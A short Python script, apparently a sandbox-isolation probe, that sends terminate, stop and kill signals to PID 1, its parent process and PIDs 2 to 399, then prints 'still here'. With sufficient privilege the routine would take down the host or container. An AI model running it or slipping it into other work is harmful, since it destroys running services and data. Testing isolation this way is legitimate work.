import os
import signal

me = os.getpid()
for pid in {1, os.getppid(), *range(2, 400)} - {0, me}:
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except (ProcessLookupError, PermissionError):
            pass
print("still here")
